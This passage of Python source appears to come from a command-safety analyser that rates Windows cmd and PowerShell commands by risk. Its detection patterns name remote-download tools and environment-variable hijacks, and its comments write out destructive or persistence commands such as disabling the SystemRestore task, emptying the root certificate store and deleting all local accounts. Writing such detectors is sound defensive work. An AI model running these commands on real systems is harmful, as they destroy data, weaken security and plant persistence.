        Word("/" + w.text[1:], w.start, w.end, w.dynamic, w.glob, w.origin)
        if re.fullmatch(r"-[A-Za-z?]{1,12}", w.text)
        else w
        for w in cmd.args
    ]
    return Cmd([cmd.words[0], *args], cmd.name, cmd.scope, cmd.stdin)


def _schtasks(cmd: Cmd) -> None:
    cmd = _slash_switches(cmd)
    flags = _win_flags(cmd)
    if "/query" in flags or not flags or _help(cmd):
        return  # (`schtasks /change /?`: help)
    task_name = _flag_value(cmd, "/tn") or ""
    if ("/delete" in flags or "/disable" in flags) and _PROTECTIVE_TASK.search(task_name):
        # `schtasks /change /tn \Microsoft\Windows\SystemRestore\SR /disable`: the task
        # that takes restore points, scans or backs up stops running.
        cmd.add(C, "disable-security", f"schtasks turns off the protective task {task_name}")
        return
    if "/delete" in flags:
        cmd.add(D, "task-delete", "deletes scheduled tasks")
    elif "/create" in flags or ("/change" in flags and flags & _TASK_CHANGES):
        # `/change /tr X` runs something else; `/st 03:00`, `/ri 5`, `/sd …` make it run at
        # other times; `/ru SYSTEM` as another account: an existing task turned to new use
        cmd.add(
            C,
            "persistence-task",
            "schtasks /create or /change (action, schedule or account) runs a program on a trigger",
        )
        task = _flag_value(cmd, "/tr")
        xml = _flag_value(cmd, "/xml")
        if not task and xml:
            # `schtasks /create /xml t.xml`: the action is the XML's <Exec> (when this block
            # wrote the file)
            task = task_xml_line(written_text(cmd.scope, xml) or "")
        if task:
            _judge_payload(cmd, task, "the scheduled task")
    else:
        cmd.add(M, "schedule", "changes scheduled tasks")


def _auditpol(cmd: Cmd) -> None:
    text = " ".join(cmd.texts()).lower()
    if re.search(r"/clear|/remove|:disable", text):
        cmd.add(C, "disable-security", "auditpol turns off or clears Windows auditing")
    elif re.search(r"/set|/restore", text):
        cmd.add(M, "security", "auditpol changes the audit policy")


def _runas(cmd: Cmd) -> None:
    """runas runs its quoted command line as another user: privilege (critical), and the
    command line is judged as cmd would run it (a blocked one stays blocked)."""
    if [w.text.lower() for w in cmd.args] == ["/showtrustlevels"]:
        return  # (h20) lists the trust levels runas can use: runs nothing
    cmd.add(C, "sudo", "runas runs a program as another user (administrator)")
    line = next((w for w in cmd.args if not w.text.startswith("/") and not w.dynamic), None)
    if line is not None and line.text.strip():
        cmd.scope.include(cmd.scope.nested(line.text, "cmd", line, -1))


def _robocopy(cmd: Cmd) -> None:
    flags = _win_flags(cmd)
    ops = _operands(cmd)
    if "/l" in flags:
        return  # /L lists what would be copied or deleted: nothing is changed
    if flags & {"/mir", "/purge", "/move", "/mov"}:
        if flags & {"/move", "/mov"} and ops:
            # `/MOVE`, `/MOV`: the source's files are deleted once copied (moved away)
            src = classify_path(ops[0].text, cmd.scope.cwds, True)
            if src.level == B:
                rule = "mv-root" if src.rule != "rm-system-file" else src.rule
                cmd.add(B, rule, f"robocopy /MOVE moves away {src.what}", ops[0])
                return
        if len(ops) > 1:
            t = classify_path(ops[1].text, cmd.scope.cwds, True)
            if t.level == B:
                cmd.add(B, t.rule, f"robocopy /MIR can erase {t.what}", ops[1])
                return
        cmd.add(D, "delete", "robocopy /MIR or /PURGE deletes files at the destination")
        if (
            len(ops) > 1
            and _UNC.match(ops[1].text.strip("'\""))
            and _local_source(cmd, ops[0].text)
        ):
            from aintern_ls.safety.network import sends_local

            # `robocopy C:\data \\srv\share /MIR`: a mirror onto another machine is an
            # upload as well (session-14 Windows upload convention)
            sends_local(cmd, ops[0], f"robocopy mirror to {ops[1].text}")
    else:
        _copy_move(cmd)


# Environment variables that make programs load code: .NET profilers, windir/comspec hijacks.
_SETX_HIJACK = re.compile(
    r"(?i)\A(cor_enable_profiling|cor_profiler\w*|coreclr_\w*profil\w*|dotnet_startup_hooks"
    r"|windir|systemroot|comspec"
    r"|psmodulepath|__psl?ockdownpolicy)\Z"
)


_NET_SOURCE = re.compile(
    r"(?i)(?:^|[\s(\"'=])(?:\\\\|//)[^\\/\s]+[\\/]|\b(?:https?|ftp)://"
    r"|\b(?:iwr|irm|wget|curl|invoke-webrequest|invoke-restmethod|start-bitstransfer)\b"
    r"|downloadstring|downloaddata|downloadfile|net\.webclient|httpclient"
)


def _remote_load(cmd: Cmd) -> bool:
    """`Import-Module \\\\host\\share\\m.psm1`, `Add-Type -TypeDefinition (iwr URL).Content`,
    `Add-Type -Path \\\\host\\x.dll`: code from another machine or the web is loaded into
    the session and runs (critical, like `iex (iwr URL)`)."""
    if cmd.name not in ("import-module", "ipmo", "add-type", "using-module"):
        return False
    text = cmd.scope.source[cmd.start : cmd.end]
    if not _NET_SOURCE.search(text):
        return False
    cmd.add(C, "remote-code", f"{cmd.name} loads code from another machine or the web")
    return True


_ELSEWHERE = re.compile(
    r"(?i)\A-(?:c(?:o(?:m(?:p(?:u(?:t(?:e(?:r(?:n(?:a(?:me?)?)?)?)?)?)?)?)?)?|n)"
    r"|session|vmname|vmid|hostname|containerid|filepath|connectionuri|uri|runasadministrator)"
)


_DESTRUCTIVE_SWITCH = re.compile(
    r"(?i)\A-(?:delete|purge|wipe|erase|destroy|shred|zap|nuke)\w*\Z|\A-(?:remove|clear)(?:all|content|data|items?)\Z"
)


_CERT_CWD = "\x00certcwd"
_CERT_DRIVE = re.compile(r"(?i)\A(?:microsoft\.powershell\.security\\)?(?:certificate::|cert:)")
_RELATIVE_ITEM = re.compile(r"(?i)\A(?![\\/~$%]|\w+:|\.\.)[^\s'\"]")


def _cert_location(scope: Scope, target: str) -> str | None:
    """The certificate-drive folder a PowerShell `cd` goes to (`Cert:\\LocalMachine\\Root`,
    or a relative folder from inside the drive), else None."""
    if _CERT_DRIVE.match(target):
        return target.replace("/", "\\").rstrip("\\")
    here = scope.env.get(_CERT_CWD)
    if here is not None and _RELATIVE_ITEM.match(target):
        return here + "\\" + target.replace("/", "\\").strip("\\")
    return None


def _in_cert_location(cmd: Cmd, targets: list[Word]) -> list[Word]:
    """Relative item paths read from the certificate folder a `cd` went to (review 16,
    finding 7: `cd Cert:\\LocalMachine\\Root; Remove-Item *` empties the store)."""
    here = cmd.scope.env.get(_CERT_CWD)
    if here is None:
        return targets
    return [
        # (n17w: `.\<thumbprint>` is the same item as `<thumbprint>`)
        Word(
            here + "\\" + re.sub(r"\A\.[\\/](?=.)", "", t.text.strip("'\"")),
            t.start,
            t.end,
            t.dynamic,
            t.glob,
            t.origin,
        )
        if _RELATIVE_ITEM.match(t.text.strip("'\""))
        else t
        for t in targets
    ]


_LOCAL_ADMIN_SHARE = re.compile(
    r"(?i)\A(?:\\\\|//)(?:localhost|127(?:\.\d{1,3}){3}|\[?::1\]?|\.)[\\/]+([a-z])\$(?=[\\/]|\Z)"
)


def apply_windows_cd(scope: Scope, cd_words: list[Word] | None = None) -> None:
    """`cd /d C:\\`, `Set-Location $env:SystemRoot`, `pushd C:\\Users`: later relative paths
    are judged from there (a drive path or a home replaces the working directory; a
    relative one is joined to a known one)."""
    target = scope.pending_cd
    if target is None:
        return
    scope.pending_cd = None
    if cd_words is not None:
        # cmd's own `cd /d X`: the switch is not the folder
        ops = [w.text for w in cd_words[1:] if w.text.lower() != "/d"]
        if not ops:
            return
        target = " ".join(ops).strip('"')
    target = target.strip("'\"")
    if scope.family == "powershell":
        key = registry_location(scope, target) if target else None
        if key is not None:
            # `Set-Location HKLM:\SYSTEM`: relative item paths now name registry keys
            scope.env[_REG_CWD] = key
            scope.env[_REG_ANY] = "1"
            return
        if _REG_CWD in scope.env:
            del scope.env[_REG_CWD]
        cert = _cert_location(scope, target)
        scope.env.pop(_CERT_CWD, None)
        if cert is not None:
            # `Set-Location Cert:\LocalMachine\Root`: relative item paths now name certificates
            scope.env[_CERT_CWD] = cert
            return
    if target[:1] in "$%":
        target = _known_folder_start(target, scope.family)
    local = _LOCAL_ADMIN_SHARE.match(target)
    if local is not None:
        # (n17w) `pushd \\localhost\C$\Windows`: this machine's administrative share of a
        # drive is that drive
        target = local.group(1) + ":" + (target[local.end() :] or "\\")
    if not target or "$" in target or "%" in target or "!" in target:
        return
    target = target.replace("\\", "/")  # (as the analyser keeps a Windows cwd)
    if re.match(r"(?i)[a-z]:(?:/|\Z)|~|//", target) or (
        # (n13w) `Set-Location /etc` (pwsh on Linux and macOS; the current drive's root
        # on Windows): an absolute folder
        target[:1] == "/" and scope.family == "powershell"
    ):
        if re.fullmatch(r"(?i)[a-z]:", target):
            target += "/"
        scope.cwds = frozenset([target])
        return
    if all(c is not None for c in scope.cwds):
        scope.cwds = frozenset((c or "").rstrip("/") + "/" + target.lstrip("/") for c in scope.cwds)


_CD_VAR = re.compile(r"(?i)\A(?:\$\{env:([\w()]+)\}|\$env:([\w()]+)|(\$home)\b|%([\w()]+)%)")


def _known_folder_start(target: str, family: str = "powershell") -> str:
    """`$env:windir\\System32`, `${env:SystemRoot}`, `%windir%\\System32`, `$HOME\\x`: a
    folder variable whose value is known, replaced by that value (n13w: the working
    directory a later relative delete is judged from). Each shell expands only its own
    spelling: PowerShell leaves `%windir%` as literal text (its cd fails and the cwd stays
    unknown), cmd leaves `$env:windir` and `$HOME` (r15)."""
    m = _CD_VAR.match(target)
    if m is None or (m.group(4) is not None) != (family == "cmd"):
        return target
    name = m.group(1) or m.group(2) or m.group(4)
    key = "$home" if m.group(3) else "$env:" + (name or "").lower()
    value = PS_KNOWN_VARS.get(key)
    if value is None or value.startswith("$"):
        return target
    return value + target[m.end() :]


def ps_destructive_switch(cmd: Cmd) -> bool:
    """A read-verb cmdlet given a destructive switch (`Search-Mailbox -DeleteContent`,
    `Get-Foo -PurgeAll`): the switch changes what it does: dangerous (moderate with
    `-WhatIf`)."""
    for w in cmd.args:
        if w.text.startswith("-") and _DESTRUCTIVE_SWITCH.match(w.text.split(":", 1)[0]):
            if any(a.text.lower() in ("-whatif", "-wi") for a in cmd.args):
                cmd.add(M, "dry-run", f"{cmd.name} {w.text} with -WhatIf only reports", w)
            else:
                cmd.add(D, "delete", f"{cmd.name} {w.text} deletes what it finds", w)
            return True
    return False


_SECURITY_WORDS = re.compile(
    r"(?i)password|passwd|audit|security|protect|defender|antivirus|antimalware|malware|firewall"
    r"|encrypt|signing|signature|mfa|multifactor|authentication|lockout|tls|smartscreen|\buac\b"
    r"|credentialguard|logging|tamper|attacksurface|exploitguard|applocker|codeintegrity"
    r"|conditionalaccess|diagnosticsetting|flowlog|cloudtrail|logprofile|sentinel|retentionpolic"
)
# What removing or disabling takes away the record of: audit trails, diagnostic settings,
# flow logs, activity-log profiles.
_TRAIL_NOUN = re.compile(
    r"(?i)audit|diagnosticsetting|flowlog|logprofile|trail|logging|sentinel|retentionpolic"
)
_SWITCHED_OFF = re.compile(
    r"(?i)\A-(?:\w*(?:enabled?|required?|enforced?|enforcement|on|mode|state|status)"
    r"|(?:require|enforce|enable)\w*)\Z"
)
_OFF_VALUE = re.compile(r"(?i)\A['\"]?(?:\$false|0|disabled?|off|none|never|auditmode)['\"]?\Z")
_OPENING_SWITCH = re.compile(
    r"(?i)\A-(?:disable|bypass|skip|allow(?:insecure|unencrypted|basic|anonymous|unsigned))\w*\Z"
)


def ps_verb_knowledge(cmd: Cmd) -> bool:
    """What an unknown cmdlet's verb alone would misjudge: `Clear-*Cache` empties a cache
    that is rebuilt on use (moderate, not a deletion); security switched off (critical)."""
    if _protective_task_off(cmd):
        return True
    if (
        re.fullmatch(r"clear-\w*cache", cmd.name)
        and cmd.scope.family == "powershell"
        and not any(re.search(r"[\\/:*]|\A-(?:literal)?path\Z", w.text.lower()) for w in cmd.args)
    ):
        # (`Clear-DnsClientCache`, `Clear-BCCache`; aimed at a path it is judged by it)
        cmd.add(M, "system-config", f"{cmd.name} empties a cache (rebuilt when needed)")
        return True
    if cmd.name in _STORE_REMOVERS and _piped_backup_stores(cmd):
        return True  # (n14w) `Get-S3Bucket | ? BucketName -like '*backup*' | Remove-S3Bucket`
    return ps_security_off(cmd)


def ps_security_off(cmd: Cmd) -> bool:
    """A cmdlet of a security feature (its noun or the parameter names password policy,
    auditing, signing, protection, encryption …) told to turn it off
    (`-ComplexityEnabled $false`, `-RequireSecuritySignature 0`, `-DisableX $true`,
    `-AuditBypassEnabled $true`): weakening security is critical, whatever the module."""
    if cmd.scope.family != "powershell":
        return False
    if re.match(r"(?i)(remove|disable|stop|clear)-", cmd.name) and _TRAIL_NOUN.search(
        cmd.name.split("-", 1)[1]
    ):
        if not any(w.text.lower() in ("-whatif", "-wi") for w in cmd.args):
            cmd.add(C, "disable-security", f"{cmd.name} removes an audit or logging record")
            return True
        return False
    if not re.match(r"(?i)(set|new|update|disable|add|edit)-", cmd.name):
        return False
    if any(w.text.lower() in ("-whatif", "-wi") for w in cmd.args):
        return False
    noun_security = bool(_SECURITY_WORDS.search(cmd.name))
    args = cmd.args
    for i, w in enumerate(args):
        if not w.text.startswith("-"):
            continue
        pname, _, inline = w.text.partition(":")
        nxt = inline or (args[i + 1].text if i + 1 < len(args) else "")
        relevant = noun_security or bool(_SECURITY_WORDS.search(pname))
        if not relevant:
            continue
        off = (_SWITCHED_OFF.match(pname) and _OFF_VALUE.match(nxt)) or (
            (_OPENING_SWITCH.match(pname) or re.search(r"(?i)bypass", pname))
            and not _OFF_VALUE.match(nxt)
        )
        if off:
            cmd.add(
                C, "disable-security", f"{cmd.name} {w.text} turns a security protection off", w
            )
            return True
    if cmd.name.lower() in ("disable-tlsciphersuite", "disable-tlsecccurve"):
        # (safety-f8) taking a (weak) cipher suite or curve out of TLS hardens it
        cmd.add(M, "write", f"{cmd.name} removes a cipher from the TLS settings")
        return True
    if cmd.name.lower().startswith("disable-") and noun_security:
        cmd.add(C, "disable-security", f"{cmd.name} turns a security protection off")
        return True
    return False


_ALIAS_DRIVE = re.compile(r"(?i)alias:")


def _alias_drive(cmd: Cmd, params: dict[str, Word | None]) -> bool:
    """`New-Item -Path Alias:\\x -Value Remove-Item`, `Set-Item Alias:x Format-Volume`: an
    alias made through the Alias: drive, as Set-Alias makes it."""
    if cmd.name not in ("new-item", "ni", "set-item", "si"):
        return False
    texts = [w for w in cmd.args if not w.text.startswith("-")]
    path = params.get("path") or (texts[0] if texts else None)
    if path is None or not _ALIAS_DRIVE.match(path.text):
        return False
    named = params.get("name")
    name = path.text.split(":", 1)[1].strip("\\/") or (named.text if named is not None else "")
    value = params.get("value") or (texts[1] if len(texts) > 1 else None)
    if not name or value is None or value.dynamic:
        cmd.add(M, "alias", "defines an alias")
        return True
    target = PS_ALIASES.get(value.text.lower(), value.text.lower())
    cmd.scope.env[PS_USER_ALIAS + name.lower()] = target
    if _PS_DESTRUCTIVE.match(target) or target in ("rm", "del", "rd", "format", "iex"):
        cmd.add(C, "alias-hides", f"makes {name} run {value.text}", value)
    else:
        cmd.add(M, "alias", "defines an alias")
    return True


_DISK_CHECKERS = frozenset(("chkdsk", "chkdsk.exe", "sfc", "sfc.exe", "defrag", "defrag.exe"))


def _disk_check_only(cmd: Cmd) -> bool:
    """Read-only modes of the disk tools (session 7: read-only queries of disks are safe):
    `chkdsk C:` without a fixing switch, `sfc /verifyonly`/`/verifyfile=`, `defrag C: /A`."""
    if cmd.name not in _DISK_CHECKERS:
        return False  # (every write cmdlet asks: its switches are read only for these)
    flags = [w.text.lower() for w in cmd.args if w.text.startswith("/")]
    if cmd.name in ("chkdsk", "chkdsk.exe"):
        fixing = (
            "/f",
            "/r",
            "/x",
            "/b",
            "/spotfix",
            "/offlinescanandfix",
            "/l",
            "/forceofflinefix",
        )
        return not any(f.split(":", 1)[0] in fixing for f in flags)
    if cmd.name in ("sfc", "sfc.exe"):
        return bool(flags) and all(f.startswith(("/verifyonly", "/verifyfile")) for f in flags)
    if cmd.name in ("defrag", "defrag.exe"):
        return "/a" in flags and all(f in ("/a", "/v", "/u", "/h", "/m") for f in flags)
    return False


_PROFILE = re.compile(
    r"(?i)\$profile(\.(allusersallhosts|alluserscurrenthost|currentuserallhosts"
    r"|currentusercurrenthost))?"
)


def _profile_named(text: str) -> bool:
    """`$PROFILE`, `$profile.AllUsersAllHosts`: a PowerShell profile (runs at start)."""
    if text.isascii() and text[:8].lower() != "$profile":
        return False  # (what the pattern needs first; a non-ASCII text: the pattern decides)
    return _PROFILE.fullmatch(text) is not None


def _attributes_shown(cmd: Cmd) -> bool:
    """(h18) `attrib C:\\*.*` (no `+X`/`-X`), `compact /q` (no `/c`/`/u`): they only print
    the files' attributes or compression state."""
    texts = [t.lower() for t in cmd.texts()]
    if cmd.name == "attrib":
        return not any(t[:1] in "+-" for t in texts)
    if cmd.name == "compact":
        return not any(t.split(":", 1)[0] in ("/c", "/u", "/exe", "/compactos") for t in texts)
    return False


@handles("remove-localuser", windows_only=True)
def _remove_local_user(cmd: Cmd) -> None:
    """(n19w) `Remove-LocalUser Administrator`: the built-in administrator; `Get-LocalUser |
    Remove-LocalUser`: every local account (blocked, as `userdel` of every account is); any
    other account: dangerous."""
    params, positional = _ps_params(cmd)
    if "whatif" in params:
        return
    named = [w.text.strip("'\"") for w in positional]
    given = params.get("name")
    if given is not None:
        named += [n.strip().strip("'\"") for n in re.split(r"[,\s]+", given.text) if n.strip()]
    if any(_BUILTIN_ADMIN.match(n) for n in named):
        cmd.add(B, "user-delete", f"{cmd.name} deletes the built-in administrator account")
        return
    if any(_each_local_account(cmd, n) for n in named):
        cmd.add(B, "user-delete", f"{cmd.name} deletes every local account (one by one)")
        return
    if not named and "sid" not in params and cmd.stdin.kind != "none":
        upstream = _pipeline_upstream(cmd.scope.source, max(cmd.start, 0))
        if re.search(r"(?i)\bget-localuser\s*\|\s*\Z", upstream):
            cmd.add(B, "user-delete", f"{cmd.name} deletes every local account")
            return
    cmd.add(D, "user-delete", f"{cmd.name} deletes a local account")


@handles("set-variable", "new-variable")
def _set_variable_cmdlet(cmd: Cmd) -> None:
    """(n19w) `Set-Variable t .\\tmp`, `New-Variable -Name t -Value x`: a variable of this
    session set, as `$t = …` is (nothing outside the session changes; the value is read
    where the variable is used)."""


@handles("pushd", windows_only=True)
def _pushd(cmd: Cmd) -> None:
    """(n19w) cmd's `pushd DIR` changes folder as `cd /d` does (nothing is written);
    `pushd \\\\host\\share` maps the share to a free drive letter first, as `net use` does."""
    if any(w.text.startswith(("\\\\", "//")) for w in cmd.args):
        cmd.add(M, "network", "pushd maps a network share to a drive letter")


# (h19) cmd built-ins that only change the console or wait: no file, no setting.
_CONSOLE_ONLY = frozenset(names("title color pause choice popd"))


def _write_cmdlet(cmd: Cmd) -> None:
    params, _ = _ps_params(cmd)
    if "whatif" in params:
        return
    if cmd.name in _CONSOLE_ONLY:
        return
    if cmd.name == "pushd":
        # (h19) `pushd C:\Windows`: a change of directory, like `cd /d` (later relative
        # paths are judged from there); `pushd \\host\share` maps the share to a drive
        if any(_UNC.match(w.text.strip("'\"")) for w in cmd.args):
            cmd.add(M, "network", "pushd maps another machine's share to a drive letter")
        return
    if cmd.name in ("set-item", "new-item", "si", "ni") and _alias_item(cmd):
        return
    if cmd.name in ("assoc", "ftype") and not any("=" in t for t in cmd.texts()):
        return  # (safety-f8) `assoc .ps1`, `ftype`: a query without `=` only prints
    if _attributes_shown(cmd):
        return
    if cmd.name in ("start-job", "invoke-command", "icm") and (script := params.get("filepath")):
        # (f19) `Start-Job -FilePath .\w.ps1`, `Invoke-Command -FilePath w.ps1 …`: the
        # script's text runs (on this machine, or sent to another one)
        from aintern_ls.safety.wrappers import run_script_file

        run_script_file(cmd, script)
    if (
        cmd.name in ("invoke-command", "icm")
        and cmd.scope.family == "powershell"
        and not any(_ELSEWHERE.match(w.text) for w in cmd.args)
    ):
        # `Invoke-Command -ScriptBlock { … }` on this machine: the block's own commands are
        # what it does (they are judged where the block is read).
        return
    if _alias_drive(cmd, params):
        return
    if _disk_check_only(cmd):
        return
    if _remote_load(cmd):
        return
    if cmd.name == "enable-psremoting":
        cmd.add(C, "remote-access", "Enable-PSRemoting lets other machines run commands here")
        return
    if (
        cmd.name == "set-item"
        and re.search(r"(?i)wsman:.*trustedhosts", " ".join(cmd.texts()))
        and re.search(r"(?:^|\s|,)\*(?:\s|,|$)", " ".join(cmd.texts()))
    ):
        cmd.add(C, "disable-security", "trusts every host for WinRM (credentials go anywhere)")
        return
    stream = params.get("stream")
    if stream is not None and stream.text.lower() not in (":$data", "$data"):
        cmd.add(C, "hidden-stream", f"{cmd.name} writes an alternate data stream (hidden)", stream)
        return
    if (
        cmd.name
        in (
            "set-itemproperty",
            "new-itemproperty",
            "new-item",
            "set-item",
            "copy-itemproperty",
            "copy-item",
            "move-item",
            "rename-itemproperty",
        )
        and (
            # (n14w) a file copied or moved is no registry write: `Move-Item
            # C:\Windows\System32\winlogon.exe …` moves the logon program, not the Winlogon key
            cmd.name not in ("copy-item", "move-item")
            or _REG_ANY in cmd.scope.env
            or re.search(r"(?i)\bhk[a-z]{0,3}:|registry::", " ".join(cmd.texts()))
        )
        and (_registry_write_risk(cmd, _registry_resolved(cmd, params)))
    ):
        return
    if cmd.name in ("copy-item", "move-item", "new-item", "set-content", "out-file"):
        # (a copy's or move's first argument is its source: only what it writes counts)
        writes = cmd.args if cmd.name not in ("copy-item", "move-item") else cmd.args[1:]
        for w in writes:
            folder = protected_unknown_name(w.text) if w.dynamic else None
            if folder is not None:
                cmd.add(
                    C,
                    "system-file",
                    f"{cmd.name} writes a file only known at run time inside {folder}",
                    w,
                )
                return
    if cmd.name == "dism" and _image_applied(cmd):
        return
    if (
        cmd.name == "dism"
        and all(
            re.match(
                r"(?i)/(?:online|english|format:\w+|get-\w+|image:\S+|featurename:\S+"
                r"|imagefile:\S+|wimfile:\S+|index:\d+|cleanup-image|checkhealth|scanhealth"
                r"|analyzecomponentstore)\Z",
                t,
            )
            for t in cmd.texts()
        )
        # (h18) `/Cleanup-Image /CheckHealth` (or /ScanHealth, /AnalyzeComponentStore) only
        # reports; /RestoreHealth and /StartComponentCleanup change the image
        and any(
            re.match(r"(?i)/(?:get-|checkhealth|scanhealth|analyzecomponentstore)", t)
            for t in cmd.texts()
        )
    ):
        return  # `dism /online /get-features /format:table`: a read-only query
    if cmd.name == "dism" and re.search(
        r"(?i)/(disable|remove)-feature\b.*(defender|firewall|smartscreen|wdag)",
        " ".join(cmd.texts()),
    ):
        cmd.add(C, "disable-security", "dism removes a Windows security feature")
        return
    if cmd.name in ("disable-windowsoptionalfeature", "uninstall-windowsfeature") and re.search(
        r"defender|firewall|smartscreen|wdag", " ".join(cmd.texts()), re.I
    ):
        cmd.add(C, "disable-security", f"{cmd.name} removes a Windows security feature")
        return
    if (
        cmd.name == "set-service"
        and re.search(r"disabled|stopped", " ".join(cmd.texts()), re.I)
        and (_touches_security(cmd) or _piped_security(cmd))
    ):
        return
    if cmd.name == "setx" and cmd.args and _SETX_HIJACK.match(cmd.args[0].text):
        cmd.add(
            C,
            "persistence",
            f"setx {cmd.args[0].text} makes every later program load or find attacker code",
        )
        return
    setx_var = (
        next((w.text.lower() for w in cmd.args if not re.fullmatch(r"(?i)[/-][a-z]", w.text)), "")
        if cmd.name == "setx"
        else ""
    )
    if cmd.name == "setx" and setx_var in ("path", "pathext"):
        cmd.add(C, "persistence", "setx PATH changes the search path of every later session")
        return
    if cmd.name == "set-scheduledtask" and (
        any(
            len(p) > 1 and any(k.startswith(p) for k in ("action", "trigger", "user", "principal"))
            for p in params
        )
        or _has_param(params, "inputo")
        or cmd.stdin.kind != "none"
    ):
        # `Set-ScheduledTask -TaskName x -Action $a` / `-Trigger …` (or a task object piped
        # in after its Actions were changed): an existing task now runs something else, or
        # at another time: persistence, like `schtasks /change /tr`. (The action's command
        # line is judged where New-ScheduledTaskAction builds it.)
        cmd.add(C, "persistence-task", "Set-ScheduledTask changes what a task runs or when")
        # (what comments and printed strings say is not what the task runs: the code view
        # powershell.analyse keeps for this text)
        line = task_action_line(cmd.scope.env.get(PS_CODE_VIEW, cmd.scope.source))
        if line:
            # `$t.Actions[0].Execute = 'cmd.exe'; $t.Actions[0].Arguments = '/c …'; $t |
            # Set-ScheduledTask`: the action's new command line
            _judge_payload(cmd, line, "the scheduled task")
        return
    if cmd.name in ("register-scheduledtask", "register-scheduledjob"):
        # (a scheduled job is a task too: its script block runs on a trigger, from the
        # Task Scheduler, after this session is gone)
        what = "Register-ScheduledJob" if cmd.name.endswith("job") else "Register-ScheduledTask"
        cmd.add(C, "persistence-task", f"{what} runs a program on a trigger")
        task_src = cmd.scope.source[max(cmd.start, 0) : max(cmd.end, 0)]
        low_src = task_src.lower()
        if "<exec" in low_src or "get-content" in low_src or "gc " in low_src:
            # `-Xml '<Task>…<Exec><Command>…'` or `-Xml (Get-Content t.xml | Out-String)`
            read = re.search(
                r"(?i)(?:get-content|\bgc|\bcat|\btype)\s+(?:-path\s+)?(\S+)", task_src
            )
            xml = written_text(cmd.scope, read.group(1).strip("'\")")) if read else task_src
            line = task_xml_line(xml or "")
            if line:
                _judge_payload(cmd, line, "the scheduled task")
        return
    if cmd.name in ("set-wmiinstance", "new-ciminstance") and re.search(
        r"__eventfilter|eventconsumer|__filtertoconsumerbinding|root.subscription",
        " ".join(cmd.texts()),
        re.I,
    ):
        cmd.add(C, "persistence-wmi", "a WMI event subscription runs code on an event")
        return
    for w in cmd.args:
        # (the cheap test first: a script block argument is the whole nested text)
        if "tartup" in w.text.lower() and re.search(
            r"start menu[\\/]programs[\\/]startup|[\\/]startup[\\/]?$", w.text, re.I
        ):
            cmd.add(C, "persistence-startup", f"{cmd.name} writes to a startup folder", w)
            return
    if cmd.name in ("new-service",):
        cmd.add(C, "persistence", "New-Service installs a service that starts on its own")
        return
    # Set-Content $PROFILE, Out-File -Append ~/.bashrc: writes to startup/system files.
    targets = positional_and_paths(cmd, params)
    if (
        cmd.name in ("set-content", "add-content", "clear-content")
        and cmd.stdin.paths
        and "path" not in params
        and "literalpath" not in params
        and not (
            cmd.name != "clear-content"
            and "value" not in params
            and any(p.text.strip("-'\" ") for p in _ps_positional(cmd))
        )
    ):
        # `Get-Item C:\…\hosts | Set-Content -Value ''`: the piped item is the -Path (m7);
        # with a path named (`… | Set-Content l.txt`) the items are the text written (f19).
        targets = [*targets, *cmd.stdin.paths]
        if cmd.name == "set-content" and cmd.stdin.paths[0].origin != "item":
            from aintern_ls.safety.files import emptied_whole

            # (f19) `Get-ChildItem ~ -Recurse -File | Set-Content -Value $null`: every file
            # listed overwritten
            if emptied_whole(cmd, cmd.stdin.paths[:16], "Set-Content overwrites", listed=True):
                return
    # `Get-Item "$env:windir\System32\$n" | Rename-Item -NewName x`: the piped items are
    # the -Path (a rename or move of them moves them away, as when named)
    piped: list[Word] = []
    if (
        cmd.name in ("rename-item", "move-item")
        and cmd.stdin.paths
        and "path" not in params
        and "literalpath" not in params
    ):
        piped = list(cmd.stdin.paths[:16])
    if cmd.name in ("rename-item", "move-item") and _registry_branch_moved(cmd, params, piped):
        return
    if cmd.name == "rename-item":
        # (safety-tgt9) `Rename-Item $env:windir windows.old`: renaming moves the system
        # tree, an account or boot file, or a home away, as Move-Item and cmd's `ren` do
        positional = _ps_positional(cmd)
        for src in [params.get("path"), params.get("literalpath"), *positional[:1], *piped]:
            if (
                src is not None
                and src.dynamic
                and _protected_unknown_delete(cmd, [src], "renames away")
            ):
                return  # `Rename-Item "$env:windir\System32\$n" x.bak`, as cmd's `ren`
            if src is None or src.dynamic:
                continue
            t0 = classify_path(src.text, cmd.scope.cwds, True)
            # (a single file of the Windows folder renamed stays the write rules' business;
            # every item of a protected folder piped in is the folder's contents gone)
            whole = whole_system(src.text, cmd.scope.cwds, True) is not None
            if (
                whole
                if src not in piped
                else t0.level >= B
                # (a listing's entries, or the item itself when it is a whole system folder)
                and (
                    t0.rule == "rm-system-file"
                    or (t0.rule == "rm-system" and (whole or src.origin != "item"))
                )
            ):
                rule = "mv-root" if t0.rule != "rm-system-file" else t0.rule
                cmd.add(B, rule, f"Rename-Item moves away {t0.what}", src)
                return
    if cmd.name in ("copy-item", "move-item"):
        # The destination is what gets written: `-Destination X` or the second positional.
        dest = params.get("destination") or params.get("dest")
        positional = _ps_positional(cmd)
        if dest is None and len(positional) > 1:
            dest = positional[1]
        targets = [dest] if dest is not None else []
        if cmd.name == "move-item":
            sources = [params.get("path"), params.get("literalpath"), *positional[:1], *piped]
            for src in sources:
                if src is None:
                    continue
                if src.dynamic and _protected_unknown_delete(cmd, [src], "moves away"):
                    return
                t0 = classify_path(src.text, cmd.scope.cwds, True)
                if t0.rule == "rm-cwd" and dest is not None and not dest.dynamic:
                    from aintern_ls.safety.files import keeps_moved

                    if keeps_moved(dest.text):
                        # `Move-Item * ..\archive`: everything moves, nothing is lost
                        cmd.add(D, "mv-all", f"Move-Item moves {t0.what} into {dest.text}", src)
                        return
                if t0.level >= B:
                    rule = "mv-root" if t0.rule != "rm-system-file" else t0.rule
                    cmd.add(B, rule, f"Move-Item moves away {t0.what}", src)
                    return
    if _unc_exfil(cmd, params, [w for w in targets if w is not None]):
        return
    _record_written(cmd, params, targets)
    for w in targets:
        if w is not None and _profile_named(cmd.scope.source[w.start : w.end].strip("'\"() ")):
            cmd.add(C, "persistence", f"{cmd.name} writes a PowerShell profile (runs at start)", w)
            return
    for w in targets:
        t = write_target(w.text.replace("\\", "/"), cmd.scope.cwds)
        if t is not None:
            cmd.add(t.level, t.rule, f"{cmd.name} writes to {t.what}", w)
            return
        if cmd.name not in ("new-item", "copy-item", "move-item") or not w.dynamic:
            win = windows_write_target(w.text)
            if win is not None:
                cmd.add(win[0], win[1], f"{cmd.name} writes to {win[2]}", w)
                return
    cmd.add(M, "write", f"{cmd.name} creates or changes files or settings")


_READ_BACK = re.compile(
    r"(?i)\A\(?\s*(?:get-content|gc|cat|type)\s+(?:-(?:literal)?path\s+)?['\"]?([^\s'\"|()]+)"
)


